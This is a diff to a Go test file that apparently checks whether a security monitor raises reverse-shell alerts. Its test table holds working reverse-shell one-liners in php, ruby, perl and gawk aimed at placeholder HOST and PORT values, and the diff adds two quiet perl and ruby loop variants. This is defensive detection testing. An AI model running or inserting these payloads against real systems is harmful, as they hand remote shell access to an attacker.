@@ -28,6 +28,8 @@ type shellForm struct {
 	command string
 	// title is the rule that is expected; "" is the reverse shell rule.
 	title string
+	// quiet is a form that starts nothing by itself: the alert has to come before it is told anything.
+	quiet bool
 }
 
 var reverseShells = []shellForm{
@@ -60,6 +62,10 @@ var reverseShells = []shellForm{
 		command: `php -r '$s=fsockopen("HOST",PORT);$d=[0=>$s,1=>$s,2=>$s];$p=proc_open("/bin/sh -i",$d,$q);proc_close($p);'`},
 	{name: "ruby", needs: []string{"ruby"},
 		command: `ruby -rsocket -e 'c=TCPSocket.new("HOST",PORT);[$stdin,$stdout,$stderr].each{|f|f.reopen(c)};exec "/bin/sh -i"'`},
+	{name: "perl loop", needs: []string{"perl"}, quiet: true,
+		command: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(PORT,inet_aton("HOST")));open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");$|=1;while(<STDIN>){system("/bin/sh","-c",$_)}'`},
+	{name: "ruby loop", needs: []string{"ruby"}, quiet: true,
+		command: `ruby -rsocket -e 'c=TCPSocket.new("HOST",PORT);[$stdin,$stdout,$stderr].each{|f|f.reopen(c)};while l=$stdin.gets;system("/bin/sh","-c",l);end'`},
 	{name: "gawk", needs: []string{"gawk"},
 		command: `gawk 'BEGIN{s="/inet/tcp/0/HOST/PORT";while((s|&getline c)>0){while((c|&getline l)>0)print l|&s;close(c)}}'`,
 		title:   "Awk opens a network connection by itself"},
@@ -83,10 +89,15 @@ func TestReverseShells(t *testing.T) {
 			conn, err := listener.Accept()
 			require.NoError(t, err)
 			opened := time.Now()
-			speak(t, conn)
+			if !form.quiet {
+				speak(t, conn)
+			}
 			before := a.wait(form.name, func(one alert) bool { return one.Rule.Name == title })
 			found := before[len(before)-1]
 			t.Logf("%s after the connection: %s", found.seen.Sub(opened).Round(time.Millisecond), found.Message)
+			if form.quiet {
+				speak(t, conn)
+			}
 			conn.Close()
 			kill(cmd)
 			all := append(before, a.settle()...)
